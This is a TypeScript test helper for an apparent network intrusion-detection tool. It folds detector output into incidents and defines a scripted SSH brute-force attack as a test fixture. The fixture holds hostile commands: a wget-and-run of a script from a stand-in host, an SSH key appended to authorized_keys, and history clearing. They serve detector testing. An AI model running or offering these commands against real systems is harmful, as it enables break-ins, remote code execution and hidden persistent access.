/** Incidents out of an attacker's moves, as analysis makes them. */
import type { Event } from '@netsentinel/contracts/event';
import type { Incident } from '@netsentinel/contracts/incident';
import { newActorState, rememberBefore } from '@netsentinel/detect/actor-state';
import { createDetectors } from '@netsentinel/detect/detectors';
import type { Move } from '@netsentinel/detect/test-moves';
import { foldEvent } from './fold.ts';

const detectors = createDetectors();

/** The way analysis takes: detect, fold, remember. Answers every incident that there was. */
export function tell(events: readonly Event[]): Incident[] {
  const state = newActorState();
  const incidents = new Map<string, Incident>();
  let incident: Incident | undefined;
  for (const event of events) {
    const detections = detectors.process(event, state);
    incident = foldEvent(incident, event, detections, { before: state.before });
    if (incident === undefined) rememberBefore(state, event);
    else incidents.set(incident.id, incident);
  }
  return [...incidents.values()];
}

/** A break-in by guessing, from the first connection to the covering of traces. */
export const attack: Move[] = [
  { connect: true },
  { handshake: 'SSH-2.0-Go' },
  ...['1', '2', '3', '4', '5'].map((password) => ({ login: 'root', password })),
  { login: 'root', password: '123456', ok: true },
  'uname -a; cat /proc/cpuinfo',
  'cd /tmp; wget http://192.0.2.9/x.sh; chmod 777 x.sh; sh x.sh',
  { download: 'http://192.0.2.9/x.sh' },
  { execute: '/tmp/x.sh' },
  'echo "ssh-rsa AAAA k" >> ~/.ssh/authorized_keys',
  'history -c',
  { disconnect: true },
];
